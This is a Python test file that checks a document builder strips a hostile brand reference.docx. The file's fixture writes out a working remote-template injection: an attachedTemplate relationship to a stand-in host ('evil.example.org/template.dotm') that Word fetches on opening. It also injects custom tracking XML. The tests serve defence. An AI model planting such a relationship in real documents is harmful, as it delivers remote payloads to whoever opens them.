"""Threat: a brand's reference.docx carries content into every DOCX built with it. Only what
the writer uses is kept; external relationships (Word fetches them on opening: remote-template
injection), custom XML and unused header variants are stripped, with a warning."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path

import docx as python_docx
from harness import brand_folder, brief_file, run, succeeded

DEFAULT = Path(python_docx.__file__).parent / "templates" / "default.docx"
EVIL = "https://evil.example.org/template.dotm"
SETTINGS_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    f'relationships/attachedTemplate" Target="{EVIL}" TargetMode="External"/>'
    "</Relationships>")
CUSTOM = '<?xml version="1.0"?><tracking xmlns="urn:x">customer-id-1234</tracking>'


def _hostile_reference(brand: Path) -> None:
    with zipfile.ZipFile(DEFAULT) as src, zipfile.ZipFile(brand / "reference.docx", "w") as out:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "word/settings.xml":
                data = data.replace(b"</w:settings>",
                                    b'<w:attachedTemplate r:id="rId1"/>'
                                    b"<w:evenAndOddHeaders/></w:settings>")
                if b"xmlns:r=" not in data:
                    data = data.replace(b"<w:settings ", b'<w:settings xmlns:r="http://schemas.'
                                        b'openxmlformats.org/officeDocument/2006/relationships" ',
                                        1)
            out.writestr(item, data, compress_type=zipfile.ZIP_DEFLATED)
        out.writestr("word/_rels/settings.xml.rels", SETTINGS_RELS)
        out.writestr("customXml/item9.xml", CUSTOM)


def _build(tmp_path: Path) -> tuple[str, zipfile.ZipFile]:
    """Build the small brief with the hostile reference; (stderr, the DOCX)."""
    brand = brand_folder(tmp_path / "brand")
    _hostile_reference(brand)
    brief = brief_file(tmp_path / "briefs")
    result = run("build", brief, "--brand", brand, "--format", "docx", "--out", tmp_path / "o",
                 cwd=tmp_path)
    succeeded(result)
    return result.err, zipfile.ZipFile(tmp_path / "o" / "small-brief.docx")


def test_external_relationships_are_stripped_with_a_warning(tmp_path: Path) -> None:
    err, built = _build(tmp_path)
    with built:
        everything = b"".join(built.read(n) for n in built.namelist())
    assert EVIL.encode() not in everything
    assert b"attachedTemplate" not in everything
    assert "warning:" in err and "external" in err.lower(), err


def test_custom_xml_and_unused_even_headers_are_stripped(tmp_path: Path) -> None:
    _, built = _build(tmp_path)
    with built:
        names = built.namelist()
        settings = built.read("word/settings.xml").decode()
        everything = b"".join(built.read(n) for n in names)
    assert not [n for n in names if n.lower().startswith("customxml")], names
    assert b"customer-id-1234" not in everything
    assert not re.search(r"evenAndOddHeaders(?! w:val=\"(0|false)\")", settings)


def test_brand_check_warns_about_what_will_be_stripped(tmp_path: Path) -> None:
    brand = brand_folder(tmp_path / "brand")
    _hostile_reference(brand)
    result = run("brand", "check", brand, cwd=tmp_path)
    succeeded(result)
    assert "warning:" in result.err and "external" in result.err.lower(), str(result)
    assert "customXml" in result.err and "evenAndOddHeaders" in result.err, str(result)
